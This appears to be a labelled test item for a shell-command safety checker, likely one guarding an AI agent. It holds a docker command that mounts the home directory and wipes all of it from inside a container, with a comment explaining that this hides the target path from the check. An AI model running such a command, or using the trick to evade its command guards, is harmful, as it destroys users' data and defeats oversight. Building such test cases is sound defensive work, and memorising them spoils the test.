# evasion: a container mounts the home directory and the deletion happens inside it, on a path that names nothing of the host
# grade: hard; does: delete
docker run --rm -v "$HOME":/w alpine:3 sh -c 'rm -rf /w/* /w/.[!.]*'
